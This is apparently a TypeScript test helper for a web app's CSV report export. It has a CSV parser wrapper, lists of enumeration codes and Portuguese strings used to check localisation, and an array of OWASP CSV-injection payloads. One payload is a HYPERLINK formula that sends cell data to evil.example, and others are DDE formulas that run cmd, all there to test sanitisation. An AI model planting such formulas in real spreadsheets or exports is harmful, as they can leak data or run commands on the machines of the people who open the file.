import { parseString } from '@fast-csv/parse'
import ptBR from '../../locales/pt-BR.json' with { type: 'json' }
import enUs from '../../locales/en-us.json' with { type: 'json' }
import { SITUATIONS } from '../../common/events/situations.js'

/** The OWASP "CSV Injection" payloads of issue 34: a staff member may name an event so. */
export const injections = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
]

/**
 * A CSV read by a real RFC 4180 parser (fast-csv, exceljs's own), rows of fields; `delimiter` is
 * `;` for a pt-BR or es report (server/reports/cells.ts csvDialect).
 */
export const parseCsv = (text: string, delimiter = ',') =>
  new Promise<string[][]>((resolve, reject) => {
    const out: string[][] = []
    parseString(text, { headers: false, delimiter })
      .on('data', (r: string[]) => out.push(r))
      .on('error', reject)
      .on('end', () => resolve(out))
  })

/** The enumeration codes a report could leak instead of words. */
export const codes = new Set<string>([...SITUATIONS, 'ACTIVE', 'DISCARDED', 'PER_PERSON', 'PER_ITEM'])

type Tree = { [k: string]: string | Tree }
const pick = (tree: Tree, path: string) =>
  path.split('.').reduce<Tree>((n, p) => (n?.[p] ?? {}) as Tree, tree)

/**
 * The Portuguese words the app itself writes into reports (situations, requester statuses, the
 * report's words and titles) that English writes otherwise: under en-us none may appear. Names
 * the tenant typed (rooms, meals, event names) are its own and stay as typed.
 */
export const portugueseWords = new Set<string>(
  ['events.situations', 'events.requesters.situations', 'report', 'report.column', 'report.panel'].flatMap(
    (path) => {
      const pt = pick(ptBR as Tree, path)
      const en = pick(enUs as Tree, path)
      return Object.entries(pt)
        .filter(([k, v]) => typeof v === 'string' && v !== en[k])
        .map(([, v]) => v as string)
    },
  ),
)
